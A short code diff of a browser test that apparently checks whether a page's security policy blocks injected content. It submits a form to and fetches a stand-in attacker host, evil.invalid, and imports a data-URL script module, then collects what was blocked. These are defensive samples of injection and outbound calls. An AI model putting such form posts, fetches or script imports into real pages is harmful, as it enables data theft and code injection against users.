@@ -65,7 +65,8 @@ test('what somebody managed to put into a page could neither run, nor load, nor 
     add('<form action="https://evil.invalid/"></form>');
     document.querySelector<HTMLFormElement>('form[action^="https:"]')?.submit();
     await fetch('https://evil.invalid/').catch(() => undefined);
-    await import('data:text/javascript,window.harmed = 1').catch(() => undefined);
+    const module = 'data:text/javascript,window.harmed = 1';
+    await import(module).catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 300));
     return [...new Set(blocked)].sort();
   });
